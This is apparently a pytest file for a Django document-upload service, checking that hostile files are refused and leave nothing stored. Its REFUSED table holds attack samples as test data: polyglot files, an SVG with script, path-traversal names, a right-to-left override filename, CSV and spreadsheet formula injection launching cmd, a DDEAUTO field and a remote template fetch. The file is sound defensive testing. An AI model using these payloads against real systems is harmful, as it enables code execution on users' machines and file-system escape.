"""Files that are two things at once, lead astray or act when they are opened are refused, and nothing stays."""

from io import BytesIO
from zipfile import ZipFile

import pytest

from doingoai.documents.actions import NotAccepted, store
from doingoai.documents.domain import NotReadable
from doingoai.documents.models import StoredFile
from tests.documents import hostile
from tests.documents.files import pdf, sheet, with_part, word
from tests.documents.marked import photo, picture
from tests.documents.papers import AT

SHEET = "xl/worksheets/sheet1.xml"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def formula(text):
    cell = f'<row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row>'
    xml = f"<worksheet {hostile.S}><sheetData>{cell}</sheetData></worksheet>"
    return hostile.with_other(sheet(("a",)), SHEET, xml)


def field(text):
    return hostile.body(f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>{hostile.PARAGRAPH}")


def stored(head):
    buffer = BytesIO()
    with ZipFile(buffer, "w") as file:
        file.writestr("0", head)
        file.writestr("word/document.xml", "<x/>")
    return buffer.getvalue()


REFUSED = {
    "a picture that is a page too": ("a.png", picture(b"x") + b"<html><script>x</script>", "hai loại"),
    "a photo that is a package too": ("a.jpg", photo(b"x") + word("Kế hoạch"), "hai loại"),
    "a PDF that is a package too": ("a.pdf", pdf("Kế hoạch") + word("Kế hoạch"), "hai loại"),
    "a drawing with a script": ("a.svg", SVG, "hình vẽ SVG"),
    "a drawing by the name of a picture": ("a.png", SVG, "hình vẽ SVG"),
    "a drawing that says so late": (
        "a.html",
        b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- x --><!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG,
        "hình vẽ SVG",
    ),
    "a package that begins as a PDF": ("a.docx", stored(b"%PDF-1.7\n"), "hai loại"),
    "a paper named for macros": ("a.docm", word("Kế hoạch"), "macro"),
    "a book with macros of old": ("a.xlsx", with_part(sheet(("a",)), "xl/macrosheets/sheet1.xml", b"<x/>"), "macro"),
    "a name that leads out of its folder": ("../../a.txt", b"Ke hoach", "đường dẫn"),
    "a name that is written backwards": ("a\u202efdp.txt", b"Ke hoach", "ký tự lạ"),
    "a part that leads out of its folder": (
        "a.docx",
        with_part(word("Kế hoạch"), "../../word/evil.xml", b"<x/>"),
        "đường dẫn",
    ),
    "a table whose cell starts a program": ("a.csv", b"Viec,So\n=cmd|'/C calc'!A0,1\n", "công thức"),
    "a table whose cell is a formula": ("a.csv", b"Viec;So\nHop bao;@SUM(A1)\n", "công thức"),
    "a book that starts a program": ("a.xlsx", formula("cmd|'/C calc'!A0"), "công thức"),
    "a book that asks another machine": ("a.xlsx", formula("WEBSERVICE(A2)"), "công thức"),
    "a paper that starts a program": ("a.docx", field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "công thức"),
    "a paper that fetches its template": (
        "a.docx",
        with_part(
            word("Kế hoạch"),
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://example.vn/a.dotm"'
            b' TargetMode="External"/></Relationships>',
        ),
        "công thức",
    ),
}
ODD = b"<!---->" * 200_000 + b"<" + b" <!DOCTYPE x" * 9000
TAKEN = {
    "a book that adds up": ("a.xlsx", formula("SUM(A1:A3)")),
    "a book with a link to press": ("a.xlsx", formula("HYPERLINK(B1)")),
    "a table with numbers below nothing": ("a.csv", "Việc,Số\nHọp báo,-5\n- gạch đầu dòng,+2\n".encode()),
    "a photo with a title": ("a.jpg", photo("Chợ phiên Bắc Hà".encode())),
    "a text of nothing but comments": ("a.txt", ODD),
    "a name with dots": ("bao.cao..quy.1.txt", b"Ke hoach"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("what", REFUSED)
def test_refuses_and_keeps_nothing_of(what, data_folder):
    name, data, because = REFUSED[what]
    with pytest.raises((NotReadable, NotAccepted), match=because) as refusal:
        store(name, data, by=None, at=AT)
    assert str(refusal.value).endswith(".")
    assert not StoredFile.objects.exists()
    assert not [path for path in data_folder.rglob("*") if path.is_file()]


@pytest.mark.django_db
@pytest.mark.parametrize("what", TAKEN)
def test_takes(what):
    name, data = TAKEN[what]
    assert store(name, data, by=None, at=AT).name == name


@pytest.mark.django_db
def test_a_photo_whose_file_bears_a_mark_is_refused(data_folder):
    for name, data in (("a.png", picture("TỐI MẬT".encode())), ("a.jpg", photo("Độ mật: Mật".encode()))):
        with pytest.raises(Exception, match="độ mật"):
            store(name, data, by=None, at=AT)
    assert not StoredFile.objects.exists()
